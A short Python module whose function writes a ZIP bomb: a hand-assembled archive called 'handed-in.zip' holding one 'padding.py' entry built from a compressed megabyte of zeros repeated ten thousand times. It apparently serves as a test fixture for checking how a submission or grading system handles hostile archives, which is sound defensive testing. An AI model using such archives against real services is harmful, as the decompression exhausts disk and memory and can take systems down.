"""One compressed megabyte of zeros, ten thousand times."""

import struct
import zlib
from pathlib import Path


def make(folder: Path, course: Path) -> Path:
    target = folder / "handed-in.zip"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(b"")
    piece = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = piece * 10_000 + b"\x03\x00"
    size, packed = min(10_000 << 20, 2**32 - 2), len(data)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, packed, size, 10, 0) + b"padding.py"
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, packed, size, 10, 0, 0, 0, 0, 0, 0) + b"padding.py"
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + packed, 0)
    target.write_bytes(local + data + central + end)
    return target
